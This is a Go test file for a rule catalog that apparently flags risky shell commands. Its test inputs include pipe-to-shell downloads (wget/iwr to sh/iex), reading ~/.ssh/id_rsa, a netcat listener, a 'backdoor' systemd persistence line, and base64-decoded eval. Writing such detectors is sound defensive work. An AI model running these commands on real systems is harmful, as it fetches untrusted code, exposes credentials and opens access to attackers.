package rules

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestCatalogLintClean(t *testing.T) {
	if problems := LintCatalog(); len(problems) != 0 {
		t.Fatalf("expected clean catalog, got:\n%s", strings.Join(problems, "\n"))
	}
}

func TestCatalogTiers(t *testing.T) {
	if got := len(ForTiers(TierCore)); got != 8 {
		t.Fatalf("expected 8 core rules, got %d", got)
	}
	if got := len(ForTiers(TierExtended)); got != 3 {
		t.Fatalf("expected 3 extended rules, got %d", got)
	}
	if got := len(ForTiers(TierCore, TierExtended)); got != len(All()) {
		t.Fatalf("expected every rule across both tiers, got %d", got)
	}
	if got := ForTiers(); len(got) != 0 {
		t.Fatalf("expected no rules without tiers, got %d", len(got))
	}
}

func TestLookup(t *testing.T) {
	rule, ok := Lookup(" remote_pipe_to_shell ")
	if !ok || rule.Points != 55 || rule.Severity != SeverityHigh {
		t.Fatalf("unexpected lookup result: %+v %v", rule, ok)
	}
	if _, ok := Lookup("nope"); ok {
		t.Fatalf("expected unknown id to miss")
	}
}

func TestRuleTriggers(t *testing.T) {
	cases := []struct {
		rule string
		text string
		want bool
	}{
		{rule: "remote_pipe_to_shell", text: "wget -qO- https://x.example/i.sh | sh", want: true},
		{rule: "remote_pipe_to_shell", text: "iwr https://x.example/a.ps1 | iex", want: true},
		{rule: "remote_pipe_to_shell", text: "curl https://x.example/file.tar.gz -o f", want: false},
		{rule: "sudo_or_admin", text: "SUDO ls", want: true},
		{rule: "sudo_or_admin", text: "write pseudocode first", want: false},
		{rule: "destructive_rm", text: "rm -fr build", want: true},
		{rule: "destructive_rm", text: "rm notes.txt", want: false},
		{rule: "credential_hunting", text: "cat ~/.ssh/id_rsa", want: true},
		{rule: "env_dump", text: "printenv", want: true},
		{rule: "env_dump", text: "check the environment", want: false},
		{rule: "network_exfil", text: "nc -l 4444", want: true},
		{rule: "code_download_execute", text: `python3 -c "print(1)"`, want: true},
		{rule: "persistence", text: "systemctl enable backdoor", want: true},
		{rule: "base64_obfuscation", text: "echo aGk= | base64 -d", want: true},
		{rule: "eval_like", text: "eval(atob('aGk='))", want: true},
		{rule: "eval_like", text: "evaluate the options", want: false},
		{rule: "install_scripts", text: "npm install left-pad", want: true},
	}

	for _, tc := range cases {
		rule, ok := Lookup(tc.rule)
		if !ok {
			t.Fatalf("missing rule %s", tc.rule)
		}
		if got := rule.Triggered(tc.text); got != tc.want {
			t.Fatalf("%s on %q: got %v, want %v", tc.rule, tc.text, got, tc.want)
		}
	}
}

func TestFindMatchesLinesAndLimit(t *testing.T) {
	lines := make([]string, 12)
	for i := range lines {
		lines[i] = "sudo step"
	}
	lines[0] = "echo start"
	text := strings.Join(lines, "\n")

	rule, _ := Lookup("sudo_or_admin")
	matches := rule.Matches(text)
	if len(matches) != DefaultMatchLimit {
		t.Fatalf("expected %d matches, got %d", DefaultMatchLimit, len(matches))
	}
	if matches[0].Line != 2 || matches[0].Text != "sudo step" {
		t.Fatalf("unexpected first match: %+v", matches[0])
	}
	for i := 1; i < len(matches); i++ {
		if matches[i].Line <= matches[i-1].Line {
			t.Fatalf("expected ascending lines, got %+v", matches)
		}
	}
}

func TestFindMatchesOnePerLine(t *testing.T) {
	patterns := compilePatterns([]string{`\bsudo\b`, `\bdoas\b`})
	matches := FindMatches("sudo doas\r\nplain\rdoas", patterns, 8)
	if len(matches) != 2 || matches[0].Line != 1 || matches[1].Line != 3 {
		t.Fatalf("unexpected matches: %+v", matches)
	}
	if got := FindMatches("sudo", patterns, 0); got != nil {
		t.Fatalf("expected nil for zero limit, got %+v", got)
	}
}

func TestSnippetTruncatesRunes(t *testing.T) {
	long := strings.Repeat("é", maxLineText+10)
	got := snippet(long)
	if utf8.RuneCountInString(got) != maxLineText || !utf8.ValidString(got) {
		t.Fatalf("expected %d valid runes, got %d", maxLineText, utf8.RuneCountInString(got))
	}
	if snippet("short") != "short" {
		t.Fatalf("expected short text unchanged")
	}
}

func TestBadPatternNeverMatches(t *testing.T) {
	p := CompilePattern("(unclosed")
	if p.Err() == nil {
		t.Fatalf("expected compile error")
	}
	if p.MatchString("(unclosed") {
		t.Fatalf("expected invalid pattern to never match")
	}

	rule := Rule{ID: "broken", Patterns: []string{"(unclosed"}}
	if rule.Triggered("anything (unclosed") {
		t.Fatalf("expected rule with invalid pattern to stay quiet")
	}
}

func TestLintReportsProblems(t *testing.T) {
	set := []Rule{
		{ID: "dup", Title: "t", Severity: SeverityLow, Tier: TierCore, Points: 1, ExplainSimple: "s", ExplainDev: "d", Patterns: []string{"x"}},
		{ID: "dup", Title: "t", Severity: "CRITICAL", Tier: TierCore, Points: 0, ExplainSimple: "s", Patterns: []string{"(bad"}},
		{},
	}
	problems := strings.Join(Lint(set), "\n")
	for _, want := range []string{
		"dup: id is duplicated",
		`dup: severity "CRITICAL" must be LOW|MEDIUM|HIGH`,
		"dup: points must be > 0",
		"dup: both explanations are required",
		"dup: patterns[0] invalid",
		"rules[2].id is required",
		"rules[2]: at least one pattern is required",
	} {
		if !strings.Contains(problems, want) {
			t.Fatalf("expected %q in problems:\n%s", want, problems)
		}
	}
}
